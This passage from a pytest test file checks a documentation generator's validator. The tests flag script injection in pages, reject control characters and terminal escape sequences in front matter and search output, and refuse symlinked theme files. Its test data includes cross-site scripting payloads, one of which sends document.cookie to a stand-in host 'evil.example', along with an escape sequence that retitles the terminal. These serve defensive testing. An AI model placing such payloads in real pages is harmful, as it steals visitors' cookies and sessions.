        "tier0/data/export.json.gz: cannot be searched for leaks whole (more than 64 MiB of text)"]


@pytest.mark.parametrize("line, found", [
    ("<script>fetch('https://evil.example/?' + document.cookie)</script>", "<script"),
    ('<img src="x.png" onerror="alert(1)">', "onerror"),
    ("Open [the form](javascript:alert(1)).", "javascript:"),
    ('<a href=" JaVaScRiPt:alert(1)">form</a>', "javascript:"),
    ('A paragraph.\n{: onclick="alert(1)" }', "onclick"),
    ("<svg onload=alert(1)></svg>", "onload"),
    ("```html\n<script>alert(1)</script>\n```", None),
    ("Use `onclick=` and `<script>` in your own page.", None),
    ("<!-- <script>alert(1)</script> -->", None),
    ('<ClientLocationInfo OnInternet="true" />', None),  # no event of a browser's
    ("javascript: the language of the web, and vbscript: an old one.", None),
])
def test_a_script_in_a_page_is_a_warning_at_its_line(make_root, line, found):
    """The page's render decides: code is text there, a comment is not shown, and only a browser's own
    events run."""
    make_root.doc("kb/a.md", f"# Page\n\nPublic words.\n\n{line}\n")
    content = load(make_root.path)
    findings = [(f.line, f.rule, f.message) for f in validate(content) if f.rule == "html-script"]
    if found is None:
        assert findings == []
    else:
        at = content.by_rel()["kb/a.md"].body_line + 4 + next(
            index for index, written in enumerate(line.split("\n")) if found in written.lower())
        assert [(where, rule) for where, rule, _ in findings] == [(at, "html-script")]
        assert f"('{found}')" in findings[0][2] and "overrides/" in findings[0][2]


@pytest.mark.parametrize("field, value", [("title", '"Reset\\x01 your password"'),
                                          ("summary", '"\\e[2J\\e[1;1HCleared"'),
                                          ("tags", '["ok", "bad\\uFFFE"]')])
def test_a_control_character_in_front_matter_is_refused_at_its_line(make_root, field, value):
    """A title ending in U+0001 made every tier's known-issues feed stop being XML; an escape sequence in a
    summary cleared the terminal of whoever ran kbgen search."""
    path = make_root.doc("kb/reset.md", **{field: value})
    line = path.read_text(encoding="utf-8").split("\n").index(f"{field}: {value}") + 1
    findings = [f for f in validate(make_root.path) if f.path == "kb/reset.md"]
    assert [(f.line, f.rule) for f in findings] == [(line, "field-value")]
    assert "U+" in findings[0].message


def test_the_known_issues_feed_is_xml_whatever_a_title_holds(make_root):
    """The feed is written without the characters XML 1.0 cannot hold, however the title got them."""
    from xml.etree import ElementTree

    from generator.known_issues import KnownIssue, Update, atom

    make_root.doc("kb/ki.md", title='"Invoices show the wrong symbol\\x01\\x1b"', summary='"Fixed\\x0b soon"')
    document = load(make_root.path).by_id()["ki"]
    feed = atom([KnownIssue(document, "fixed", "1.2\x02", False, [Update(datetime.date(2026, 1, 2), "fixed")])],
                "Help", None)
    titles = [element.text for element in ElementTree.fromstring(feed).iter("{http://www.w3.org/2005/Atom}title")]
    assert "Invoices show the wrong symbol (Fixed in 1.2)" in titles


def test_search_prints_no_control_character_to_the_terminal(make_root):
    make_root.doc("kb/reset.md", "# Reset\n\nReset your password from the sign-in page.\n",
                  title='"Reset \\e]0;pwned\\a\\e[31mRED\\u202e"')
    result = run_cli("search", "--root", str(make_root.path), "reset password")
    assert result.exit_code == 0
    assert "\x1b" not in result.output and "\x07" not in result.output and "\u202e" not in result.output
    assert "Reset \\x1b]0;pwned\\x07\\x1b[31mRED\\u202e" in result.output


@pytest.mark.parametrize("target", ["runbooks/eng.md", "runbooks", "snippets/s.md", "kb/img/chart.png"])
def test_a_theme_file_linked_to_content_is_refused(make_root, target):
    """overrides/ is copied into every site, the public one too: a link in it to a tier 3 runbook published
    the runbook at /assets/notes.txt (the preview served it; validation said nothing)."""
    make_root.doc("runbooks/eng.md", runbook_body("Eng", "Engineering only."), tier=3)
    make_root.file("snippets/s.md", "Shared.\n")
    make_root.file("kb/img/chart.png", b"\x89PNG\r\n\x1a\n")
    (make_root.path / "overrides/assets").mkdir(parents=True)
    (make_root.path / "overrides/assets/notes.txt").symlink_to(make_root.path / target)
    findings = [f for f in validate(make_root.path) if f.path.startswith("overrides/")]
    assert findings and {f.rule for f in findings} == {"file-outside-root"}, findings
